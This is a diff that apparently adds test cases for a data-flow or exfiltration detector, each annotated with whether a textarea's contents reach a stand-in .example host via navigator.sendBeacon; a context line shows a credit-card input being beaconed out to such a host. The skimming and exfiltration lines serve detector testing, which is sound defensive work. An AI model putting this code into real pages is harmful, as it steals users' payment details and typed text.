@@ -200,3 +200,31 @@ document.querySelector('input[autocomplete=cc-number]').onchange = (e) => {
     if (!first) navigator.sendBeacon('https://cib.gd16.example/o', e.target.value);
   }
 };
+
+//# hook-that-gives-nothing
+// no flow
+// why: the hook of the only caller answers null, and null is not sent
+function deliver(event, { before } = {}) {
+  const made = before ? before(event) : event;
+  if (made == null) return;
+  navigator.sendBeacon('https://htg.gd16.example/e', JSON.stringify(made));
+}
+deliver({ text: document.querySelector('textarea').value }, { before: () => null });
+
+//# no-hook-at-all
+// flow: message > nha.gd16.example via beacon
+function deliver2(event, { before } = {}) {
+  const made = before ? before(event) : event;
+  if (made == null) return;
+  navigator.sendBeacon('https://nha.gd16.example/e', JSON.stringify(made));
+}
+deliver2({ text: document.querySelector('textarea').value });
+
+//# hook-that-lets-it-pass
+// flow: message > hlp.gd16.example via beacon
+function deliver3(event, options) {
+  const made = options.before ? options.before(event) : event;
+  if (made === null) return;
+  navigator.sendBeacon('https://hlp.gd16.example/e', JSON.stringify(made));
+}
+deliver3({ text: document.querySelector('textarea').value }, { before: (event) => event });
